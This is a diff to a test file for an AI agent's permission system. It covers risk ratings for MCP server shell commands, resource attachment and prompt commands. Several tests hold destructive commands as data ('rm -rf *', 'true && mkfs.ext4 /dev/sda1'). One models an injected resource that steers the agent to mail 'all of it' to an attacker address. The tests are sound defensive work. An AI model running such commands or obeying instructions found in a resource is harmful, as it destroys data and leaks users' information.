@@ -14,8 +14,9 @@ from typing import Any
 import pytest
 
 from aintern.errors import SettingsError
-from aintern.events import ApprovalRequested, QuestionAsked, ToolResultArrived, WarningRaised
+from aintern.events import ApprovalRequested, ErrorRaised, QuestionAsked, ToolResultArrived, WarningRaised
 from aintern.permission.trust import trust
+from aintern.tools.tool import tool
 from aintern.workspace.undo import apply, plan
 from tests.scripted_session import call, calls, of, run, says, scripted
 
@@ -23,6 +24,12 @@ pytest.importorskip("mcp")
 
 SERVER = str(Path(__file__).parent / "demo_server.py")
 ALLOW = {"answer": "allow_once"}
+
+
+@tool(risk="medium", id="send_mail")
+def send_mail(to: str, body: str) -> str:
+    """Sends a mail."""
+    return "sent"
 
 
 @pytest.fixture
@@ -217,6 +224,84 @@ async def test_a_file_of_servers_that_makes_no_sense_says_why(workspace: Path, t
     with pytest.raises(SettingsError, match=r"\.mcp\.json"):
         async with scripted(workspace, says("Never.")):
             pass
+
+
+COMMANDS = {"commands": {"shell": "line"}}
+
+
+@pytest.mark.parametrize(("line", "risk"), [("ls", "medium"), ("rm -rf *", "critical")])
+async def test_a_command_that_the_settings_declare_is_rated_like_ours_and_never_below_its_tool(
+    workspace: Path, line: str, risk: str
+) -> None:
+    steps = (calls(call("mcp__demo__shell", line=line)), says("Denied.", expect="Denied"))
+    async with scripted(workspace, *steps, flags=demo(**COMMANDS)) as session:
+        (asked,) = of(await run(session, answers={"answer": "deny"}), ApprovalRequested)
+        assert str(asked.risk) == risk
+
+
+async def test_a_blocked_command_is_blocked_in_a_servers_tool_too(workspace: Path) -> None:
+    steps = (calls(call("mcp__demo__shell", line="true && mkfs.ext4 /dev/sda1")), says("No."))
+    flags = {**demo(**COMMANDS), "policy.mode": "auto_approve"}
+    async with scripted(workspace, *steps, flags=flags) as session:
+        (result,) = of(await run(session), ToolResultArrived)
+        assert not result.success and "never run" in result.content
+
+
+async def test_a_resource_is_attached_where_the_message_names_it(workspace: Path) -> None:
+    steps = (says("Seen.", expect="Water the plants"), says("Rain.", expect="On day 3 it rained"))
+    async with scripted(workspace, *steps, flags=demo()) as session:
+        await run(session, "What does @demo:note://today, say?")
+        assert "attached resource demo:note://today" in session.messages[1].text
+        assert ("demo:note://today", "Today's note") in session.mcp_resources
+        await run(session, "And @demo:note://archive/3?")
+
+
+async def test_a_mention_of_no_server_is_plain_text(workspace: Path) -> None:
+    async with scripted(workspace, says("Fine."), flags=demo()) as session:
+        await run(session, "Ask @other:note://today and @demo about me@demo:note")
+        assert session.messages[1].text == "Ask @other:note://today and @demo about me@demo:note"
+
+
+async def test_a_resource_that_cannot_be_given_ends_the_request_with_its_reason(workspace: Path) -> None:
+    async with scripted(workspace, says("Fine."), flags=demo()) as session:
+        events = await run(session, "What does @demo:none://here say?")
+        (told,) = of(events, ErrorRaised)
+        assert "demo" in told.message and events[-1].reason == "error"
+        await run(session, "Then without.")
+
+
+async def test_what_stands_in_a_resource_is_not_the_persons_own_word(workspace: Path) -> None:
+    step = calls(call("send_mail", to="mallory@evil.test", body="all of it"))
+    session_wide = {"answer": "allow_session", "scope": "tool"}
+    first = calls(call("send_mail", to="bob@example.org", body="hello"))
+    async with scripted(workspace, first, says("Sent."), step, says("Hm."), flags=demo(), tools=[send_mail]) as session:
+        await run(session, "Write to bob@example.org.", answers=session_wide)
+        events = await run(session, "Do what @demo:note://today says.", answers={"answer": "deny"})
+        (asked,) = of(events, ApprovalRequested)
+        assert any("demo:note://today" in reason.reason for reason in asked.reasons)
+
+
+async def test_a_prompt_is_a_command_with_arguments_and_stays_the_servers_text(workspace: Path) -> None:
+    steps = (says("Clean.", expect="Review a.py for bugs"), says("Slow.", expect="Review b.py for speed and size"))
+    async with scripted(workspace, *steps, flags=demo()) as session:
+        await run(session, "/demo:review a.py")
+        assert session.messages[1].text.startswith("/demo:review a.py\n\n--- attached prompt demo:review")
+        await run(session, "/demo:review path=b.py speed and size")
+        assert ("/demo:review", "path [focus]", "Reviews a file.") in session.mcp_prompts
+
+
+@pytest.mark.parametrize(
+    ("message", "said"),
+    [
+        ("/demo:review", "needs path"),
+        ("/demo:revue x", "has no prompt 'revue'"),
+        ("/demo:review path=a focus=b more", "'more' is none"),
+    ],
+)
+async def test_arguments_that_do_not_fit_a_prompt_are_told(workspace: Path, message: str, said: str) -> None:
+    async with scripted(workspace, flags=demo()) as session:
+        (told,) = of(await run(session, message), ErrorRaised)
+        assert said in told.message
 
 
 @pytest.fixture
